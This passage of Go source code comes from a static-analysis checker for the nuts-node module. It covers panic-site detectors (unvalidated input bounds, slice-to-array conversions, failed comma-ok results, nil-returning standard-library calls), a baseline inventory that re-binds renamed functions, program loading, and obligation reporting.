		if op == nil {
			continue
		}
		src := inputNumberSource(op, 0)
		if src == nil {
			continue
		}
		if comparedBefore(src, in.Block()) {
			continue
		}
		return &PanicSite{Detector: "D7.input-number-as-bound", Fn: fn, Pos: in.Pos(), Expr: AccessPath(op, 0), Detail: what + " " + AccessPath(op, 0) + " comes from a decoded input field and is not compared with anything on the way here (negative or oversized values panic)"}
	}
	return nil
}

func inputNumberSource(v ssa.Value, depth int) ssa.Value {
	if depth > 6 || v == nil {
		return nil
	}
	switch x := v.(type) {
	case *ssa.Convert:
		return inputNumberSource(x.X, depth+1)
	case *ssa.ChangeType:
		return inputNumberSource(x.X, depth+1)
	case *ssa.BinOp:
		if _, isC := x.Y.(*ssa.Const); isC {
			return inputNumberSource(x.X, depth+1)
		}
		if _, isC := x.X.(*ssa.Const); isC {
			return inputNumberSource(x.Y, depth+1)
		}
	case *ssa.UnOp:
		if x.Op != token.MUL {
			return nil
		}
		// load of a field, or deref of a loaded pointer field
		inner := x.X
		if u2, ok := inner.(*ssa.UnOp); ok && u2.Op == token.MUL {
			inner = u2.X
		}
		fa, ok := inner.(*ssa.FieldAddr)
		if !ok {
			return nil
		}
		fv := structField(fa.X.Type(), fa.Field)
		if fv == nil {
			return nil
		}
		t := fv.Type()
		if pt, ok := t.Underlying().(*types.Pointer); ok {
			t = pt.Elem()
		}
		b, ok := t.Underlying().(*types.Basic)
		if !ok || b.Info()&types.IsInteger == 0 {
			return nil
		}
		tag := reflect.StructTag(structFieldTag(fa.X.Type(), fa.Field))
		if tag.Get("json") == "" && tag.Get("protobuf") == "" {
			return nil
		}
		return x
	case *ssa.Field:
		fv := structField(x.X.Type(), x.Field)
		if fv == nil {
			return nil
		}
		b, ok := fv.Type().Underlying().(*types.Basic)
		if !ok || b.Info()&types.IsInteger == 0 {
			return nil
		}
		tag := reflect.StructTag(structFieldTag(x.X.Type(), x.Field))
		if tag.Get("json") == "" && tag.Get("protobuf") == "" {
			return nil
		}
		return x
	}
	return nil
}

// comparedBefore: the dominating branches establish both a lower bound (src >= 0-ish; implicit for unsigned types) and
// an upper bound (src < or <= something) for src (another load of the same field expression counts as src).
func comparedBefore(src ssa.Value, blk *ssa.BasicBlock) bool {
	lower, upper := false, false
	if b, ok := src.Type().Underlying().(*types.Basic); ok && b.Info()&types.IsUnsigned != 0 {
		lower = true
	}
	isSrc := func(o ssa.Value) bool {
		o2 := inputNumberSource(o, 0)
		return o2 != nil && (o2 == src || SameExpr(o2, src, 5))
	}
	for _, e := range edgeFacts(blk) {
		i := ifOf(e.From)
		if i == nil {
			continue
		}
		atom, neg := condAtom(i.Cond)
		bin, ok := atom.(*ssa.BinOp)
		if !ok {
			continue
		}
		truth := (e.Succ == 0) != neg // the comparison's value on this edge
		op := bin.Op
		var srcLeft bool
		switch {
		case isSrc(bin.X):
			srcLeft = true
		case isSrc(bin.Y):
			srcLeft = false
		default:
			continue
		}
		// normalise to "src OP other" being true
		if !srcLeft {
			switch op {
			case token.LSS:
				op = token.GTR
			case token.LEQ:
				op = token.GEQ
			case token.GTR:
				op = token.LSS
			case token.GEQ:
				op = token.LEQ
			}
		}
		if !truth {
			switch op {
			case token.LSS:
				op = token.GEQ
			case token.LEQ:
				op = token.GTR
			case token.GTR:
				op = token.LEQ
			case token.GEQ:
				op = token.LSS
			case token.EQL:
				op = token.NEQ
			case token.NEQ:
				op = token.EQL
			}
		}
		other := bin.Y
		if !srcLeft {
			other = bin.X
		}
		switch op {
		case token.LSS, token.LEQ:
			upper = true
		case token.GTR, token.GEQ:
			if c, isC := ConstInt(other); isC && c >= -1 {
				lower = true
			} else if !isC {
				// compared against a length/count: a lower bound of at least that non-negative quantity
				if _, isLen := stripConv(other).(*ssa.Call); isLen {
					lower = true
				}
			}
		case token.EQL:
			lower, upper = true, true
		}
	}
	return lower && upper
}

// isStdPkgPath: a standard-library import path (first element without a dot; the checker's own fixture module is not std).
func isStdPkgPath(path string) bool {
	first := strings.SplitN(path, "/", 2)[0]
	return !strings.Contains(first, ".") && first != "fixtures"
}

// sliceToArray (D8): [N]T(s) / (*[N]T)(s) panics when len(s) < N. Guard: a dominating branch on which len(s) == N or
// len(s) >= N holds (same slice expression), or the slice is a constant-bounded slicing s[a:b] with b-a >= N of an array.
func (p *Prog) sliceToArray(fn *ssa.Function, in ssa.Instruction) *PanicSite {
	x, ok := in.(*ssa.SliceToArrayPointer)
	if !ok {
		return nil
	}
	pt, ok := x.Type().Underlying().(*types.Pointer)
	if !ok {
		return nil
	}
	arr, ok := pt.Elem().Underlying().(*types.Array)
	if !ok || arr.Len() == 0 {
		return nil
	}
	n := arr.Len()
	lenOf := VPat{Desc: "len(s)", M: func(v ssa.Value) bool {
		c, ok := stripConv(v).(*ssa.Call)
		if !ok {
			return false
		}
		b, ok := c.Call.Value.(*ssa.Builtin)
		return ok && b.Name() == "len" && len(c.Call.Args) == 1 && SameExpr(c.Call.Args[0], x.X, 4)
	}}
	if FactHolds(x.Block(), token.EQL, lenOf, IntV(n)) || FactHolds(x.Block(), token.LEQ, IntV(n), lenOf) || FactHolds(x.Block(), token.LSS, IntV(n-1), lenOf) {
		return nil
	}
	// a fresh slice of statically known length: make([]T, k) with k >= N, or arr[:] of a long enough array
	switch y := x.X.(type) {
	case *ssa.MakeSlice:
		if k, ok := ConstInt(y.Len); ok && k >= n {
			return nil
		}
	case *ssa.Slice:
		if ap, ok := y.X.Type().Underlying().(*types.Pointer); ok {
			if a, ok := ap.Elem().Underlying().(*types.Array); ok {
				lo, hi, known := int64(0), a.Len(), true
				if y.Low != nil {
					lo, known = ConstInt(y.Low)
				}
				if known && y.High != nil {
					hi, known = ConstInt(y.High)
				}
				if known && hi-lo >= n {
					return nil
				}
			}
		}
	}
	pos := x.Pos()
	if !pos.IsValid() {
		for _, ref := range *x.Referrers() {
			if ref.Pos().IsValid() {
				pos = ref.Pos()
				break
			}
		}
	}
	if !pos.IsValid() {
		pos = blockPos(x.Block())
	}
	return &PanicSite{Detector: "D8.slice-to-array", Fn: fn, Pos: pos, Expr: AccessPath(x.X, 0),
		Detail: fmt.Sprintf("conversion of the slice %s to an array of %d elements panics when the slice is shorter; no dominating test of its length", AccessPath(x.X, 0), n)}
}

// failedCommaOkUse (D9): m, ok := x.(map[K]V) / p, ok := x.(*T) / v, ok := mm[k] yields the zero value (nil map, nil pointer)
// when ok is false. A write into that map or a dereference of that pointer panics unless a dominating branch established
// ok == true or value != nil. `in` is the comma-ok instruction.
func (p *Prog) failedCommaOkUse(fn *ssa.Function, in ssa.Instruction) *PanicSite {
	var tuple ssa.Value
	what := ""
	switch x := in.(type) {
	case *ssa.TypeAssert:
		if !x.CommaOk {
			return nil
		}
		tuple, what = x, "type assertion"
	case *ssa.Lookup:
		if !x.CommaOk {
			return nil
		}
		tuple, what = x, "map lookup"
	default:
		return nil
	}
	var val, okv ssa.Value
	for _, ref := range *tuple.Referrers() {
		if ex, isEx := ref.(*ssa.Extract); isEx {
			if ex.Index == 0 {
				val = ex
			} else {
				okv = ex
			}
		}
	}
	if val == nil {
		return nil
	}
	_, isMap := val.Type().Underlying().(*types.Map)
	_, isPtr := val.Type().Underlying().(*types.Pointer)
	if !isMap && !isPtr {
		return nil
	}
	// the value, and loads of a local variable it is the only thing ever stored in
	vals := []ssa.Value{val}
	for _, ref := range *val.Referrers() {
		if st, isSt := ref.(*ssa.Store); isSt && st.Val == val {
			if a, isA := st.Addr.(*ssa.Alloc); isA && len(storesTo(a)) == 1 {
				for _, r2 := range *a.Referrers() {
					if u, isU := r2.(*ssa.UnOp); isU && u.Op == token.MUL {
						vals = append(vals, u)
					}
				}
			}
		}
	}
	guarded := func(b *ssa.BasicBlock) bool {
		if okv != nil && FactHoldsValue(b, func(v ssa.Value) bool { return v == okv }, true) {
			return true
		}
		for _, v := range vals {
			if nonNilAt(v, b) {
				return true
			}
		}
		return false
	}
	for _, v := range vals {
		if isMap {
			for _, ref := range *v.Referrers() {
				if mu, isMU := ref.(*ssa.MapUpdate); isMU && mu.Map == v && !guarded(mu.Block()) {
					return &PanicSite{Detector: "D9.zero-value-of-failed-comma-ok", Fn: fn, Pos: mu.Pos(), Expr: AccessPath(tuple, 0), Detail: "the map comes from a comma-ok " + what + " whose ok is not established here: when it failed the map is nil and the assignment panics"}
				}
			}
			continue
		}
		for _, d := range derefUses(v) {
			if !guarded(d.Block()) {
				return &PanicSite{Detector: "D9.zero-value-of-failed-comma-ok", Fn: fn, Pos: d.Pos(), Expr: AccessPath(tuple, 0), Detail: "the pointer comes from a comma-ok " + what + " whose ok is not established here: when it failed the pointer is nil"}
			}
		}
	}
	return nil
}

// nilOnFailure: standard-library functions that report failure by returning nil (no error value); value = indexes of the
// results that are nil then.
var nilOnFailure = map[string][]int{
	"crypto/elliptic.Unmarshal":           {0, 1},
	"crypto/elliptic.UnmarshalCompressed": {0, 1},
	"encoding/pem.Decode":                 {0},
	"(*math/big.Int).SetString":           {0},
	"(*math/big.Int).ModInverse":          {0},
	"(*math/big.Int).ModSqrt":             {0},
	"(*math/big.Rat).SetString":           {0},
	"(*math/big.Float).SetString":         {0},
}

// nilOnFailureDeref (D10): such a result is dereferenced (field, method that dereferences its receiver) with no dominating
// nil test of it (or, for the SetString family, of the ok result).
func (p *Prog) nilOnFailureDeref(fn *ssa.Function, call *ssa.Call) *PanicSite {
	f := call.Common().StaticCallee()
	if f == nil {
		return nil
	}
	idxs, ok := nilOnFailure[f.String()]
	if !ok {
		return nil
	}
	var okv ssa.Value
	res := map[int]ssa.Value{}
	if call.Common().Signature().Results().Len() == 1 {
		res[0] = call
	} else {
		for _, ref := range *call.Referrers() {
			if ex, isEx := ref.(*ssa.Extract); isEx {
				res[ex.Index] = ex
				if b, isB := ex.Type().Underlying().(*types.Basic); isB && b.Kind() == types.Bool {
					okv = ex
				}
			}
		}
	}
	for _, i := range idxs {
		first := res[i]
		if first == nil {
			continue
		}
		vals := map[ssa.Value]bool{first: true}
		work := []ssa.Value{first}
		for len(work) > 0 && len(vals) < 12 {
			v := work[0]
			work = work[1:]
			if refs := v.Referrers(); refs != nil {
				for _, ref := range *refs {
					switch x := ref.(type) {
					case *ssa.Phi:
						if !vals[x] {
							vals[x] = true
							work = append(work, x)
						}
					case *ssa.Store:
						if x.Val == v {
							if a, isA := x.Addr.(*ssa.Alloc); isA {
								for _, r2 := range *a.Referrers() {
									if u, isU := r2.(*ssa.UnOp); isU && u.Op == token.MUL && !vals[u] {
										vals[u] = true
										work = append(work, u)
									}
								}
							}
						}
					}
				}
			}
		}
		for v := range vals {
			for _, d := range derefUses(v) {
				if nonNilAt(v, d.Block()) || nonNilAt(first, d.Block()) {
					continue
				}
				if okv != nil && FactHoldsValue(d.Block(), func(x ssa.Value) bool { return x == okv }, true) {
					continue
				}
				return &PanicSite{Detector: "D10.nil-on-failure-result-deref", Fn: fn, Pos: d.Pos(), Expr: AccessPath(call, 0), Detail: f.String() + " returns nil when its input is malformed (it has no error result) and the result is dereferenced without a nil test"}
			}
		}
	}
	return nil
}
