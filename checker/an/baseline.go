package an

import (
	"encoding/json"
	"go/types"
	"os"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Baseline symbols: a committed inventory (checker/baseline_symbols.json) of the module's named production functions at
// the time the rules were written: signature (without names), parameter names, static callees. It is used ONLY to re-bind
// anchors after a behaviour-preserving rename — of a function (found again by package + receiver + signature + callee
// similarity among the functions the baseline does not know) or of a parameter (found again by position). It never
// produces an alarm and never decides an obligation; every re-binding is listed in the evidence.

type BaselineFunc struct {
	Sig     string   `json:"sig"`
	Params  []string `json:"params"`
	Callees []string `json:"callees"`
	Instrs  int      `json:"instrs"`
	Ops     []string `json:"ops,omitempty"` // operation fingerprint (operators, constants, field names): tells small functions apart
}

type Baseline map[string]BaselineFunc // key: pkgpath|recv|name

var (
	baseline      Baseline
	renamedToOld  = map[*ssa.Function]string{} // current function -> baseline name
	oldToRenamed  = map[string]*ssa.Function{} // baseline key -> current function
	renamedByObj  = map[*types.Func]string{}
	Rebindings    []string
	baselineInUse bool
)

func symKey(fn *ssa.Function) (string, bool) {
	if fn == nil || fn.Parent() != nil || fn.Pkg == nil {
		return "", false
	}
	obj, ok := fn.Object().(*types.Func)
	if !ok || obj == nil {
		return "", false
	}
	recv := ""
	if r := fn.Signature.Recv(); r != nil {
		if n := recvNamed(r.Type()); n != nil {
			recv = n.Obj().Name()
		}
	}
	return fn.Pkg.Pkg.Path() + "|" + recv + "|" + fn.Name(), true
}

func sigString(sig *types.Signature) string {
	var b strings.Builder
	q := func(p *types.Package) string { return p.Path() }
	b.WriteString("(")
	for i := 0; i < sig.Params().Len(); i++ {
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString(types.TypeString(sig.Params().At(i).Type(), q))
	}
	if sig.Variadic() {
		b.WriteString("...")
	}
	b.WriteString(")(")
	for i := 0; i < sig.Results().Len(); i++ {
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString(types.TypeString(sig.Results().At(i).Type(), q))
	}
	b.WriteString(")")
	return b.String()
}

func describe(fn *ssa.Function) BaselineFunc {
	d := BaselineFunc{Sig: sigString(fn.Signature)}
	for _, p := range fn.Params {
		d.Params = append(d.Params, p.Name())
	}
	set := map[string]bool{}
	for _, f := range WithAnons(fn) {
		for _, b := range f.Blocks {
			d.Instrs += len(b.Instrs)
			for _, in := range b.Instrs {
				if ci, ok := in.(ssa.CallInstruction); ok {
					if sc := ci.Common().StaticCallee(); sc != nil && sc.Parent() == nil {
						set[sc.String()] = true
					} else if ci.Common().IsInvoke() {
						set["invoke "+ci.Common().Method.FullName()] = true
					}
				}
			}
		}
	}
	for k := range set {
		d.Callees = append(d.Callees, k)
	}
	sort.Strings(d.Callees)
	ops := map[string]bool{}
	for _, f := range WithAnons(fn) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.BinOp:
					ops["op "+x.Op.String()] = true
				case *ssa.UnOp:
					ops["unop "+x.Op.String()] = true
				case *ssa.FieldAddr:
					if fv := structField(x.X.Type(), x.Field); fv != nil {
						ops["field "+fv.Name()] = true
					}
				case *ssa.Field:
					if fv := structField(x.X.Type(), x.Field); fv != nil {
						ops["field "+fv.Name()] = true
					}
				case *ssa.TypeAssert:
					ops["assert "+x.AssertedType.String()] = true
				}
				for _, op := range in.Operands(nil) {
					if op == nil || *op == nil {
						continue
					}
					if c, ok := (*op).(*ssa.Const); ok && c.Value != nil {
						v := c.Value.ExactString()
						if len(v) > 40 {
							v = v[:40]
						}
						ops["const "+v] = true
					}
				}
			}
		}
	}
	for k := range ops {
		d.Ops = append(d.Ops, k)
	}
	sort.Strings(d.Ops)
	if len(d.Ops) > 60 {
		d.Ops = d.Ops[:60]
	}
	return d
}

// GenBaseline writes the inventory of the program's named production functions.
func (p *Prog) GenBaseline(path string) error {
	out := Baseline{}
	for _, fn := range p.Funcs {
		if p.FileClass(p.FuncPos(fn)) != "prod" {
			continue
		}
		if k, ok := symKey(fn); ok {
			out[k] = describe(fn)
		}
	}
	b, err := json.MarshalIndent(out, "", " ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, b, 0o644)
}

// LoadBaseline reads the inventory and re-binds renamed functions.
func (p *Prog) LoadBaseline(path string) {
	b, err := os.ReadFile(path)
	if err != nil {
		return
	}
	var bl Baseline
	if json.Unmarshal(b, &bl) != nil {
		return
	}
	baseline = bl
	baselineInUse = true
	current := map[string]*ssa.Function{}
	for _, fn := range p.Funcs {
		if p.FileClass(p.FuncPos(fn)) != "prod" {
			continue
		}
		if k, ok := symKey(fn); ok {
			current[k] = fn
		}
	}
	var missing, added []string
	for k := range bl {
		if current[k] == nil {
			missing = append(missing, k)
		}
	}
	for k := range current {
		if _, ok := bl[k]; !ok {
			added = append(added, k)
		}
	}
	sort.Strings(missing)
	sort.Strings(added)
	used := map[string]bool{}
	for _, m := range missing {
		mp := strings.SplitN(m, "|", 3)
		old := bl[m]
		best, bestScore, ties := "", 0.0, 0
		for _, a := range added {
			if used[a] {
				continue
			}
			ap := strings.SplitN(a, "|", 3)
			if ap[0] != mp[0] || ap[1] != mp[1] {
				continue
			}
			cur := describe(current[a])
			if cur.Sig != old.Sig {
				continue
			}
			s := jaccard(old.Callees, cur.Callees)
			so := jaccard(old.Ops, cur.Ops)
			if len(old.Callees) == 0 && len(cur.Callees) == 0 {
				s = so
			} else {
				s = 0.7*s + 0.3*so
			}
			if s > bestScore {
				best, bestScore, ties = a, s, 1
			} else if s == bestScore {
				ties++
			}
		}
		if best != "" && bestScore >= 0.6 && ties == 1 {
			used[best] = true
			fn := current[best]
			renamedToOld[fn] = mp[2]
			oldToRenamed[m] = fn
			if obj, ok := fn.Object().(*types.Func); ok {
				renamedByObj[obj] = mp[2]
			}
			Rebindings = append(Rebindings, strings.TrimPrefix(mp[0], ModPath+"/")+"."+mp[1]+"."+mp[2]+" -> "+fn.Name()+" (renamed; same package, receiver and signature, callee similarity "+strings.TrimRight(strings.TrimRight(formatFloat(bestScore), "0"), ".")+")")
		}
	}
}

func formatFloat(f float64) string {
	s := strings.Builder{}
	n := int(f*100 + 0.5)
	s.WriteString(string(rune('0' + n/100)))
	s.WriteString(".")
	s.WriteString(string(rune('0' + (n/10)%10)))
	s.WriteString(string(rune('0' + n%10)))
	return s.String()
}

func jaccard(a, b []string) float64 {
	if len(a) == 0 && len(b) == 0 {
		return 1
	}
	sa := map[string]bool{}
	for _, x := range a {
		sa[x] = true
	}
	inter, union := 0, len(sa)
	for _, x := range b {
		if sa[x] {
			inter++
		} else {
			union++
		}
	}
	if union == 0 {
		return 0
	}
	return float64(inter) / float64(union)
}

// baselineFuncName: the name under which the rules know this function.
func baselineFuncName(f *types.Func) string {
	if f == nil {
		return ""
	}
	if n, ok := renamedByObj[f]; ok {
		return n
	}
	return f.Name()
}

// BaselineParamName: the name under which the rules know this parameter (by position in the baseline inventory).
func BaselineParamName(x *ssa.Parameter) string {
	fn := x.Parent()
	if !baselineInUse || fn == nil {
		return x.Name()
	}
	k, ok := symKey(fn)
	if !ok {
		return x.Name()
	}
	if old, ok := renamedToOld[fn]; ok {
		parts := strings.SplitN(k, "|", 3)
		k = parts[0] + "|" + parts[1] + "|" + old
	}
	bf, ok := baseline[k]
	if !ok || len(bf.Params) != len(fn.Params) || bf.Sig != sigString(fn.Signature) {
		return x.Name()
	}
	for i, p := range fn.Params {
		if p == x {
			return bf.Params[i]
		}
	}
	return x.Name()
}

// BaselineVarName: for a free variable (or a spill cell) that stands for a parameter of an enclosing function, the name
// under which the rules know that parameter; otherwise the variable's own name.
func BaselineVarName(name string, fn *ssa.Function) string {
	for f := fn; f != nil; f = f.Parent() {
		for _, q := range f.Params {
			if q.Name() == name {
				return BaselineParamName(q)
			}
		}
	}
	return name
}

// InlinedOwnerOf: fn is not in an owner table, but on the tree the rules were confirmed on (the baseline inventory) it
// CALLED an owner that no longer exists as a function: the owner's body was inlined into its caller. Returns that owner's
// name (as owner tables spell it). Like a re-binding this only answers "which function is meant"; the site is then an
// owner's site and every other rule about it is decided on the current source.
func (p *Prog) InlinedOwnerOf(fn *ssa.Function, owners map[string]string) (string, bool) {
	if !baselineInUse || fn == nil {
		return "", false
	}
	k, ok := symKey(Outer(fn))
	if !ok {
		return "", false
	}
	bf, ok := baseline[k]
	if !ok {
		return "", false
	}
	exists := map[string]bool{}
	for _, f := range p.Funcs {
		exists[p.FuncName(f)] = true
	}
	for _, c := range bf.Callees {
		name := strings.ReplaceAll(c, ModPath+"/", "")
		if _, isOwner := owners[name]; isOwner && !exists[name] {
			return name, true
		}
	}
	return "", false
}
