// Package an holds the analysis core: program loading, object resolution, CFG helpers and the rule engines.
package an

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

const ModPath = "github.com/nuts-foundation/nuts-node"

// Prog is the loaded, type-checked program with SSA for the module's own packages.
type Prog struct {
	Root    string
	Fset    *token.FileSet
	Pkgs    []*packages.Package
	ByPath  map[string]*packages.Package
	SSA     *ssa.Program
	SSAPkgs map[string]*ssa.Package
	// Funcs are all functions (incl. methods and anonymous functions) whose source is in the module.
	Funcs []*ssa.Function
	Whole bool // whole-program syntax loaded
	Tags  string
}

type LoadOpts struct {
	Root    string
	Whole   bool   // LoadAllSyntax (thorough)
	Tags    string // build tags
	Overlay map[string][]byte
	// Baseline: path of the baseline symbol inventory used to re-bind anchors after renames ("" = none)
	Baseline string
}

func Load(o LoadOpts) (*Prog, error) {
	mode := packages.LoadSyntax | packages.NeedModule
	if o.Whole {
		mode = packages.LoadAllSyntax | packages.NeedModule
	}
	env := []string{}
	for _, e := range os.Environ() {
		if strings.HasPrefix(e, "GOWORK=") || strings.HasPrefix(e, "GOFLAGS=") || strings.HasPrefix(e, "GOPROXY=") ||
			strings.HasPrefix(e, "GOSUMDB=") || strings.HasPrefix(e, "GOTOOLCHAIN=") {
			continue
		}
		env = append(env, e)
	}
	env = append(env, "GOWORK=off", "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	cfg := &packages.Config{Mode: mode, Dir: o.Root, Env: env, Tests: false, Overlay: o.Overlay}
	if o.Tags != "" {
		cfg.BuildFlags = []string{"-tags=" + o.Tags}
	}
	pkgs, err := packages.Load(cfg, "./...")
	if err != nil {
		return nil, fmt.Errorf("packages.Load: %w", err)
	}
	var errs []string
	packages.Visit(pkgs, nil, func(p *packages.Package) {
		for _, e := range p.Errors {
			errs = append(errs, e.Error())
		}
	})
	if len(errs) > 0 {
		sort.Strings(errs)
		if len(errs) > 10 {
			errs = errs[:10]
		}
		return nil, fmt.Errorf("load/type-check errors (%d): %s", len(errs), strings.Join(errs, "; "))
	}
	if len(pkgs) < 120 {
		return nil, fmt.Errorf("only %d module packages loaded (expected >= 120)", len(pkgs))
	}
	p := &Prog{Root: o.Root, Pkgs: pkgs, ByPath: map[string]*packages.Package{}, SSAPkgs: map[string]*ssa.Package{}, Whole: o.Whole, Tags: o.Tags}
	p.Fset = pkgs[0].Fset
	for _, pk := range pkgs {
		p.ByPath[pk.PkgPath] = pk
	}
	var spkgs []*ssa.Package
	if o.Whole {
		p.SSA, spkgs = ssautil.AllPackages(pkgs, ssa.InstantiateGenerics)
	} else {
		p.SSA, spkgs = ssautil.Packages(pkgs, ssa.InstantiateGenerics)
	}
	p.SSA.Build()
	for _, sp := range spkgs {
		if sp != nil {
			p.SSAPkgs[sp.Pkg.Path()] = sp
		}
	}
	for fn := range ssautil.AllFunctions(p.SSA) {
		if strings.HasPrefix(fn.Synthetic, "wrapper for") || strings.HasPrefix(fn.Synthetic, "bound method wrapper") || strings.HasPrefix(fn.Synthetic, "thunk for") {
			continue // compiler-made forwarding stubs: the real call/reference sites are in source functions
		}
		if p.InModule(fn) && fn.Blocks != nil {
			p.Funcs = append(p.Funcs, fn)
		}
	}
	sort.Slice(p.Funcs, func(i, j int) bool {
		a, b := p.Funcs[i], p.Funcs[j]
		if a.Pos() != b.Pos() {
			return a.Pos() < b.Pos()
		}
		return a.String() < b.String()
	})
	if o.Baseline != "" {
		p.LoadBaseline(o.Baseline)
	}
	return p, nil
}

// InModule reports whether fn's source lies in the module (including instantiations and anonymous functions).
func (p *Prog) InModule(fn *ssa.Function) bool {
	for f := fn; f != nil; f = f.Parent() {
		if f.Pkg != nil {
			return strings.HasPrefix(f.Pkg.Pkg.Path(), ModPath)
		}
		if o := f.Origin(); o != nil && o.Pkg != nil {
			return strings.HasPrefix(o.Pkg.Pkg.Path(), ModPath)
		}
	}
	// synthetic wrappers/bound methods: look at the object
	if fn.Object() != nil && fn.Object().Pkg() != nil {
		return strings.HasPrefix(fn.Object().Pkg().Path(), ModPath)
	}
	return false
}

func (p *Prog) Pos(pos token.Pos) string {
	if !pos.IsValid() {
		return "-"
	}
	ps := p.Fset.Position(pos)
	rel, err := filepath.Rel(p.Root, ps.Filename)
	if err != nil {
		rel = ps.Filename
	}
	return fmt.Sprintf("%s:%d", rel, ps.Line)
}

// File returns the repo-relative filename of pos.
func (p *Prog) File(pos token.Pos) string {
	if !pos.IsValid() {
		return ""
	}
	ps := p.Fset.Position(pos)
	rel, err := filepath.Rel(p.Root, ps.Filename)
	if err != nil {
		return ps.Filename
	}
	return rel
}

// Pkg returns the module package with the given module-relative path ("" = root).
func (p *Prog) Pkg(rel string) *packages.Package {
	path := ModPath
	if rel != "" {
		path = ModPath + "/" + rel
	}
	return p.ByPath[path]
}

// Func resolves a function or method in a module package; recv "" for package-level functions.
func (p *Prog) Func(pkgRel, recv, name string) *ssa.Function {
	pk := p.Pkg(pkgRel)
	if pk == nil {
		return nil
	}
	return p.funcIn(pk.Types, recv, name)
}

func (p *Prog) funcIn(tp *types.Package, recv, name string) *ssa.Function {
	if tp == nil {
		return nil
	}
	if f, ok := oldToRenamed[tp.Path()+"|"+recv+"|"+name]; ok {
		return f
	}
	if recv == "" {
		o, _ := tp.Scope().Lookup(name).(*types.Func)
		if o == nil {
			return nil
		}
		return p.SSA.FuncValue(o)
	}
	tn, _ := tp.Scope().Lookup(recv).(*types.TypeName)
	if tn == nil {
		return nil
	}
	named, _ := tn.Type().(*types.Named)
	if named == nil {
		return nil
	}
	for i := 0; i < named.NumMethods(); i++ {
		m := named.Method(i)
		if m.Name() == name {
			return p.SSA.FuncValue(m)
		}
	}
	return nil
}

// FuncName gives a stable readable name: pkgrel.(Recv).name[$n]
func (p *Prog) FuncName(fn *ssa.Function) string {
	if fn == nil {
		return "<nil>"
	}
	s := fn.String()
	if old, ok := renamedToOld[Outer(fn)]; ok {
		// keep the name the rules and owner tables know (the re-binding is listed in the evidence)
		o := Outer(fn)
		full := o.String()
		if i := strings.LastIndex(full, o.Name()); i >= 0 {
			s = full[:i] + old + full[i+len(o.Name()):] + strings.TrimPrefix(s, full)
		}
	}
	s = strings.ReplaceAll(s, ModPath+"/", "")
	s = strings.ReplaceAll(s, ModPath, "")
	return s
}

// Outer returns the outermost enclosing named function.
func Outer(fn *ssa.Function) *ssa.Function {
	for fn.Parent() != nil {
		fn = fn.Parent()
	}
	return fn
}

// WithAnons returns fn and all anonymous functions nested in it (transitively).
func WithAnons(fn *ssa.Function) []*ssa.Function {
	out := []*ssa.Function{fn}
	for _, a := range fn.AnonFuncs {
		out = append(out, WithAnons(a)...)
	}
	return out
}

// FileClass classifies a source file: "prod", "mock", "testhelper", "generated".
func (p *Prog) FileClass(pos token.Pos) string {
	f := p.File(pos)
	base := filepath.Base(f)
	switch {
	case f == "":
		return "unknown"
	case strings.HasPrefix(base, "mock") || strings.HasSuffix(base, "_mock.go") || strings.HasPrefix(f, "mock/"):
		return "mock"
	case base == "test.go" || strings.HasPrefix(base, "test_") || strings.HasSuffix(base, "_testutil.go") || strings.Contains(f, "/test/") || strings.HasPrefix(f, "test/") || strings.HasPrefix(f, "e2e-tests/") || base == "testing.go" || strings.HasSuffix(base, "_test_helpers.go"):
		return "testhelper"
	case base == "generated.go" || strings.HasSuffix(base, ".pb.go") || strings.HasSuffix(base, ".gen.go"):
		return "generated"
	}
	return "prod"
}

// AstFile returns the syntax tree of a module-relative file path.
func (p *Prog) AstFile(rel string) (*ast.File, *packages.Package) {
	abs := filepath.Join(p.Root, rel)
	for _, pk := range p.Pkgs {
		for i, f := range pk.CompiledGoFiles {
			if f == abs && i < len(pk.Syntax) {
				return pk.Syntax[i], pk
			}
		}
	}
	return nil, nil
}

// FuncPos returns a valid source position for fn (its own, its object's, or its parent's).
func (p *Prog) FuncPos(fn *ssa.Function) token.Pos {
	for f := fn; f != nil; f = f.Parent() {
		if f.Pos().IsValid() {
			return f.Pos()
		}
		if o := f.Object(); o != nil && o.Pos().IsValid() {
			return o.Pos()
		}
		if o := f.Origin(); o != nil && o.Pos().IsValid() {
			return o.Pos()
		}
	}
	return token.NoPos
}
