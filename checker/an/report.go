package an

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"
)

type Status string

const (
	Discharged Status = "discharged"
	Violated   Status = "violated"
	Undecided  Status = "undecided"
	AnchorLost Status = "anchor-lost"
	Known      Status = "known-finding"
)

// Obligation is one decided rule instance on one construct.
type Obligation struct {
	Key        string `json:"key"`  // rule-id @ construct — stable, no line numbers
	Rule       string `json:"rule"` // engine + short statement
	Pos        string `json:"pos,omitempty"`
	Status     Status `json:"status"`
	Detail     string `json:"detail,omitempty"`
	NonTrivial bool   `json:"-"`
	Sites      int    `json:"sites,omitempty"`
}

type Report struct {
	Prop        string
	Tier        string
	Obls        []Obligation
	Explanation string
	NotDecided  []string
	Assumptions []string
	Trusted     []string
	Extra       map[string]any
	Sites       int // evaluations: sites examined
	keys        map[string]bool
	start       time.Time
	P           *Prog
}

func NewReport(prop, tier string, p *Prog) *Report {
	return &Report{Prop: prop, Tier: tier, keys: map[string]bool{}, start: time.Now(), P: p, Extra: map[string]any{}}
}

func (r *Report) add(o Obligation) {
	k := o.Key
	for i := 2; r.keys[o.Key]; i++ {
		o.Key = fmt.Sprintf("%s #%d", k, i)
	}
	r.keys[o.Key] = true
	r.Obls = append(r.Obls, o)
}

func (r *Report) OK(key, rule, pos, detail string, nontrivial bool) {
	r.add(Obligation{Key: key, Rule: rule, Pos: pos, Status: Discharged, Detail: detail, NonTrivial: nontrivial})
}
func (r *Report) Bad(key, rule, pos, detail string) {
	r.add(Obligation{Key: key, Rule: rule, Pos: pos, Status: Violated, Detail: detail, NonTrivial: true})
}
func (r *Report) Undecided(key, rule, pos, detail string) {
